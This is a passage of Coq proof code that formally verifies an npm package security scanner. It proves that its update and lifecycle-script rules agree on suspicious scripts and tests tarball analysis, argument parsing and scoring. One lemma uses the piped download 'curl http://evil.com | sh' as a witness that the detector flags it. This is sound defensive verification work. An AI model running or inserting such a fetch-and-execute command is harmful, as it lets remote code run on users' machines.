               LifecycleScriptRiskRule.suspiciousCommands script 0)
   <= LifecycleScriptRiskRule.risk (LifecycleScriptRiskRule._analyzeScript script))%nat /\
  (LifecycleScriptRiskRule.riskLevel (LifecycleScriptRiskRule._analyzeScript script)
   = RiskNone ->
   LifecycleScriptRiskRule.risk (LifecycleScriptRiskRule._analyzeScript script) = 0%nat).
Proof.
  unfold LifecycleScriptRiskRule._analyzeScript. cbv zeta.
  destruct (LifecycleScriptRiskRule.firstMatch _ script 0) as [h |];
    destruct (LifecycleScriptRiskRule.allMatches _ script 0) as [| s ss];
    destruct (LifecycleScriptRiskRule.allObfuscations _ script 0) as [| o os];
    destruct (patternMatch LifecycleScriptRiskRule.chainPattern script) as [n |];
    try destruct (3 <=? n)%nat;
    cbn [LifecycleScriptRiskRule.risk LifecycleScriptRiskRule.riskLevel
         length map app orb Nat.add Nat.mul];
    (split; [lia |]);
    repeat match goal with
           | |- context [(?a <=? ?b)%nat] => destruct (Nat.leb_spec a b)
           end;
    cbn [orb]; intros; try discriminate; lia.
Qed.

(** X27.  The update rule and the lifecycle rule agree on what is
    suspicious in one direction: every pattern of [_isSuspiciousScript] is
    a suspicious command or a high-risk pattern of the lifecycle rule, so a
    script that [_isSuspiciousScript] flags always gets a risk of at least 1
    and a risk level other than none from [_analyzeScript]. *)
Theorem suspicious_script_has_lifecycle_risk (script : string) :
  UpdateBehaviorRule._isSuspiciousScript script = true ->
  (1 <= LifecycleScriptRiskRule.risk (LifecycleScriptRiskRule._analyzeScript script))%nat /\
  LifecycleScriptRiskRule.riskLevel (LifecycleScriptRiskRule._analyzeScript script)
  <> RiskNone.
Proof.
  unfold UpdateBehaviorRule._isSuspiciousScript.
  destruct (negb (truthy script)); [discriminate |].
  intros Hs. apply existsb_exists in Hs as (p & Hin & Hp).
  destruct (analyzeScript_risk_parts script) as [Hparts Hnone].
  assert (Hrisk : (1 <= LifecycleScriptRiskRule.risk
                          (LifecycleScriptRiskRule._analyzeScript script))%nat).
  { assert (Hwhere : In p LifecycleScriptRiskRule.suspiciousCommands \/
                     In p LifecycleScriptRiskRule.highRiskPatterns).
    { unfold UpdateBehaviorRule.suspiciousPatterns in Hin. cbn [In] in Hin.
      destruct Hin as [<- | [<- | [<- | [<- | [<- | [<- | [<- | [<- | [<- | []]]]]]]]]];
        first [ solve [left; unfold LifecycleScriptRiskRule.suspiciousCommands;
                       cbn [In]; repeat first [left; reflexivity | right]]
              | solve [right; unfold LifecycleScriptRiskRule.highRiskPatterns;
                       cbn [In]; repeat first [left; reflexivity | right]] ]. }
    destruct Hwhere as [Hc | Hh].
    - pose proof (allMatches_hit _ p script 0 Hc Hp). lia.
    - pose proof (firstMatch_hit _ p script 0 Hh Hp) as Hf.
      destruct (LifecycleScriptRiskRule.firstMatch _ script 0); [lia | contradiction]. }
  split; [exact Hrisk |]. intros H. apply Hnone in H. lia.
Qed.

(** A piped download. *)
Lemma suspicious_script_has_lifecycle_risk_witness :
  (1 <= LifecycleScriptRiskRule.risk
          (LifecycleScriptRiskRule._analyzeScript "curl http://evil.com | sh"))%nat /\
  LifecycleScriptRiskRule.riskLevel
    (LifecycleScriptRiskRule._analyzeScript "curl http://evil.com | sh") <> RiskNone.
Proof.
  apply (suspicious_script_has_lifecycle_risk "curl http://evil.com | sh").
  vm_compute. reflexivity.
Defined.
End SuspiciousScriptFacts.

(** ** The added models on concrete inputs *)

Section CoverageTests.
Import JS Path Model TarballContents ScoringService OutputFormatter.

(** The sample tree: three files that can be examined, one of them above
    1MB; the link and the file without a size are left out. *)
Example test_contents_sample :
  let analysis :=
    _analyzeContents unit (fun _ p => p) "/tmp/x/extracted" (Some tt)
      (Some sampleTree) in
  totalFiles analysis = 3%nat /\ totalSize analysis = 2001500%Z /\
  length (fileStructure analysis) = 4%nat /\
  map largePath (largestFiles analysis)
  = ["/tmp/x/extracted/package/dist/bundle.js"] /\
  hasPackageJson analysis = true.
Proof. by_evaluation. Qed.

(** Package arguments as the command line gives them. *)
Example test_nameAndVersion :
  nameAndVersion "express@4.18.2" = ("express", Some "4.18.2") /\
  nameAndVersion "lodash" = ("lodash", None) /\
  nameAndVersion "@scope/pkg@1.0.0" = ("@scope/pkg@1.0.0", None) /\
  nameAndVersion "a@1@2" = ("a", Some "1").
Proof. by_evaluation. Qed.

(** Three arguments of which the second cannot be scored: rejected with an
    Error it gets its failure entry; rejected with [undefined] it ends the
    call. *)
Example test_scorePackages :
  scorePackages nat
    (fun name _ => if String.eqb name "bad" then inr (ErrorObject "Not found")
                   else inl 1%nat)
    ["a@1.0.0"; "bad"; "c"]
  = Some [Scored 1%nat; Failed "bad" "latest" "Not found"; Scored 1%nat] /\
  scorePackages nat
    (fun name _ => if String.eqb name "bad" then inr Nullish else inl 1%nat)
    ["a@1.0.0"; "bad"; "c"]
  = None.
Proof. by_evaluation. Qed.

(** Interpretations at the thresholds. *)
Example test_interpretation :
  _getScoreInterpretation 90
  = "Package appears safe to use with minimal security concerns." /\
  _getScoreInterpretation 49.99
  = "Package has critical security issues. Block in CI/CD and avoid use.".
Proof. by_evaluation. Qed.
End CoverageTests.
